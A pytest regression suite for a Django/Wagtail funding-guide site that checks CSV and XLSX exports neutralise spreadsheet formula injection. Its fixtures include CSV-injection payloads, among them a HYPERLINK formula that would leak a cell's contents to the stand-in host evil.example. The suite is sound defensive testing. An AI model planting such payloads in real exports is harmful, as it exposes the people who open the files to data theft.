"""Finding 10: the results CSV, the import / export CSV and the admin reports' CSV wrote ``=``,
``+``, ``-``, ``@``, tab and CR at the start of a cell as they were, so a spreadsheet opening
them ran an editor's text as a formula (CSV injection).

Each export is downloaded through its URL, as the staff (or a visitor, for the results) do.
A CSV text that a spreadsheet would run starts with a quote; an XLSX text is a text cell,
never a formula; the import reads the export back unchanged.
"""

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import Site

from core.spreadsheets import neutralise_formula, restore_formula
from guide.models import AidContact, AidPage, Contact, FundingProgramme, ProgrammeResult
from guide.status import today
from results.models import ResultsPage
from search.models import EverydayWords, SynonymGroup
from tests.support.factories import (
    AidPageFactory,
    ContactFactory,
    FinancialComponentFactory,
    OrganisationFactory,
)
from transfer.columns import key_for_header
from transfer.report import Outcome

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("https://evil.example/?d="&A2,"Voir la fiche")'
PROMESSE = "+33 % de votre programme d'emplois financés"
ELIGIBILITY = "-Entreprise implantée sur le territoire\n-Au moins un emploi créé"
# The lists of issue 23 (one item per line, as eligibilite).
COVERED = '=HYPERLINK("https://evil.example/")\nMatériel'
EXAMPLES = "+20 % de chiffre d'affaires"
CHECKLIST = "@Votre SIRET"
OPERATOR = "@Initiative Bièvre"
CONTACT = "-Edith Blard"
VOLET_LABEL = "\tPrêt à taux zéro"
VOLET_CONDITIONS = "\r\nSans caution personnelle"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def runs_as_formula(cell):
    """What a spreadsheet would read as a formula: a text starting with a trigger (a number
    such as ``-5000.00`` is read as the number it is)."""
    return cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)


def csv_rows(response):
    assert response.status_code == 200
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content, newline="")))


def xlsx_bytes(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def xlsx_cells(data, sheet=None):
    workbook = load_workbook(io.BytesIO(data))
    return [
        cell for row in (workbook[sheet] if sheet else workbook.active).iter_rows() for cell in row
    ]


def assert_no_formula(data):
    """No cell of the workbook is a formula, and every text starting with a trigger is a text
    cell marked with Excel's quote prefix (editing it keeps it text)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name
    for cell in xlsx_cells(data):
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


@pytest.fixture
def hostile_fiche(guide_index):
    """A fiche whose texts begin with what a spreadsheet runs, closing soon (listed by a
    report), with a volet and a contact line."""
    operator = OrganisationFactory(name=OPERATOR)
    fiche = AidPageFactory(
        parent=guide_index,
        title=TITLE,
        promesse=PROMESSE,
        eligibility=ELIGIBILITY,
        covered_expenses=COVERED,
        project_examples=EXAMPLES,
        call_checklist=CHECKLIST,
        operator=operator,
        opening_date=today() - datetime.timedelta(days=30),
        closing_date=today() + datetime.timedelta(days=5),
        with_contact=False,
    )
    FinancialComponentFactory(page=fiche, label=VOLET_LABEL, conditions=VOLET_CONDITIONS)
    contact = ContactFactory(
        name=CONTACT, organisation=operator, kind=Contact.Kind.MAILBOX, phone="+33619918462"
    )
    AidContact.objects.create(page=fiche, contact=contact, referral_note="@GOSB")
    return AidPage.objects.get(pk=fiche.pk)


def test_neutralising_is_undone_exactly_and_leaves_numbers_alone():
    for text in (TITLE, "'=déjà cité", "''+x", "-", "@", "\tx", "Prêt", "", "'plain"):
        assert restore_formula(neutralise_formula(text)) == text
    assert neutralise_formula(TITLE) == "'" + TITLE
    assert neutralise_formula("'=x") == "''=x"
    assert neutralise_formula("'plain") == "'plain"
    for number in (-12, Decimal("-5000.00"), 3.5, None):
        assert neutralise_formula(number) == number


# The import / export -----------------------------------------------------------------------


def export(client, extension):
    response = client.get(reverse("guide_transfer_export"), {"format": extension, "status": ""})
    assert response.status_code == 200
    return response.content


def import_dry_run(client, data, name):
    response = client.post(
        reverse("guide_transfer_import"),
        {"file": SimpleUploadedFile(name, data), "kind": "guide"},
    )
    assert response.status_code == 200
    return response.context["report"]


def test_the_fiches_csv_export_is_neutralised_and_reads_back_unchanged(
    editor_client, hostile_fiche
):
    data = export(editor_client, "csv")
    headers, *rows = csv_rows_of(data)
    headers = [key_for_header(header) for header in headers]  # « Titre » as titre
    (row,) = [dict(zip(headers, values, strict=True)) for values in rows]
    assert row["titre"] == "'" + TITLE
    assert row["promesse"] == "'" + PROMESSE
    assert row["eligibilite"] == "'" + ELIGIBILITY
    assert row["depenses_couvertes"] == "'" + COVERED
    assert row["exemples_projets"] == "'" + EXAMPLES
    assert row["preparez_votre_appel"] == "'" + CHECKLIST
    assert row["operateur"] == "'" + OPERATOR
    assert row["volet_1_intitule"] == "'" + VOLET_LABEL
    assert row["contact_1_nom"] == "'" + CONTACT
    assert row["contact_1_note"] == "'@GOSB"
    assert [cell for cell in row.values() if runs_as_formula(cell)] == []
    # Imported as it is: the fiche is unchanged, nothing to write.
    report = import_dry_run(editor_client, data, "fiches.csv")
    assert [message.text for message in report.errors] == []
    assert [(r.outcome, [m.text for m in r.errors]) for r in report.rows] == [
        (Outcome.UNCHANGED, [])
    ]


def test_the_fiches_xlsx_export_has_no_formula_and_reads_back_unchanged(
    editor_client, hostile_fiche
):
    data = export(editor_client, "xlsx")
    assert_no_formula(data)
    values = [cell.value for cell in xlsx_cells(data, "Fiches")]
    assert TITLE in values and PROMESSE in values  # the fiche's own texts, no quote added
    report = import_dry_run(editor_client, data, "fiches.xlsx")
    assert [r.outcome for r in report.rows] == [Outcome.UNCHANGED]


def csv_rows_of(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# The reports and the snippet listings ---------------------------------------------------------


def test_the_reports_exports_are_neutralised(editor_client, hostile_fiche):
    url = reverse("guide_reports:ferment_bientot")
    rows = csv_rows(editor_client.get(url, {"export": "csv"}))
    assert rows[1][:2] == ["'" + TITLE, "'" + OPERATOR]
    assert rows[1][3] == "5"  # the days left: a number, as it was
    assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
    assert_no_formula(xlsx_bytes(editor_client.get(url, {"export": "xlsx"})))


def test_the_unused_contacts_report_is_neutralised(editor_client, guide_index):
    ContactFactory(name="=1+1", email="personne@example.org", phone="+33619918462")
    url = reverse("guide_reports:contacts_inutilises")
    rows = csv_rows(editor_client.get(url, {"export": "csv"}))
    assert rows[1][0] == "'=1+1"
    assert "'+33619918462" in rows[1]
    assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
    assert_no_formula(xlsx_bytes(editor_client.get(url, {"export": "xlsx"})))


@pytest.mark.parametrize(
    ("url_name", "make"),
    [
        ("wagtailsnippets_guide_organisation:list", lambda: OrganisationFactory(name=OPERATOR)),
        ("wagtailsnippets_guide_contact:list", lambda: ContactFactory(name=CONTACT)),
        (
            "wagtailsnippets_site_search_synonymgroup:list",
            lambda: SynonymGroup.objects.create(terms="@pret, emprunt", note="=1+1"),
        ),
        (
            "wagtailsnippets_site_search_everydaywords:list",
            lambda: EverydayWords.objects.create(
                words='=HYPERLINK("https://evil.example"), four', guide_terms="+équipement"
            ),
        ),
    ],
)
def test_the_snippet_listings_exports_are_neutralised(editor_client, guide_index, url_name, make):
    make()
    url = reverse(url_name)
    rows = csv_rows(editor_client.get(url, {"export": "csv"}))
    assert len(rows) >= 2
    assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
    assert any(cell.startswith("'") for cell in rows[1])
    assert_no_formula(xlsx_bytes(editor_client.get(url, {"export": "xlsx"})))


# The results page's CSV (public) --------------------------------------------------------------


def test_the_results_csv_is_neutralised_and_keeps_its_numbers(client, home):
    page = ResultsPage(title="La revitalisation en chiffres", slug="revitalisation-en-chiffres")
    home.add_child(instance=page)
    page.save_revision().publish()
    programme = FundingProgramme.objects.create(
        name=TITLE, kind="revitalisation", site=Site.objects.get(is_default_site=True)
    )
    ProgrammeResult.objects.create(
        programme=programme,
        period_start=2024,
        loans_amount=Decimal("-5000"),  # a correction of an earlier year
        source="@Copil",
        source_date=datetime.date(2025, 3, 1),
        note="-arrondi",
    )
    rows = csv_rows(client.get(page.url + "chiffres-csv/"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["programme"] == "'" + TITLE
    assert row["source"] == "'@Copil" and row["precision"] == "'-arrondi"
    assert row["prets_engages_eur"] == "-5000.00"  # a number stays a number
    assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
